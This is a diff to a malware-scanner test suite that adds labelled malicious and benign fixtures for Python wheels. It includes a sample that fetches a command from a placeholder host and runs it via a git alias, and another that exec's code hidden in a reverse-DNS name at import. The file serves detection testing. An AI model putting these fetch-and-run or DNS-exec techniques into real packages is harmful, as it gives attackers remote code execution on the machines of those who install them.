@@ -84,7 +84,18 @@ CASES = [
         "_cmd = urllib.request.urlopen('https://c.x.invalid/a').read().decode()\n"
         "subprocess.run(['git', '-c', 'alias.up=!' + _cmd, 'up'])\n"), "malicious",
         ("PV325",), kind="wheel"),
+    Case("reverse-lookup (PTR) name of a fixed address exec'd at import", "ptrexec", _init(
+        "ptrexec",
+        "import socket\n\n_name = socket.gethostbyaddr('192.0.2.7')[0]\n"
+        "exec(_name.split('.')[0].replace('-', ' '))\n"), "malicious", ("PV326",),
+        kind="wheel"),
     # benign look-alikes
+    Case("reverse lookup of a peer for the log and an ssh command", "peername", _init(
+        "peername",
+        "import logging, socket, subprocess\n\n\ndef connect(ip):\n"
+        "    host = socket.gethostbyaddr(ip)[0]\n    logging.info('peer %s', host)\n"
+        "    return subprocess.run(['ssh', host, 'uptime'], capture_output=True)\n"),
+        "benign", kind="wheel"),
     Case("resolver cache in front of connect", "dnscache", _init(
         "dnscache",
         "import functools, socket\n\n\n@functools.lru_cache(maxsize=256)\n"
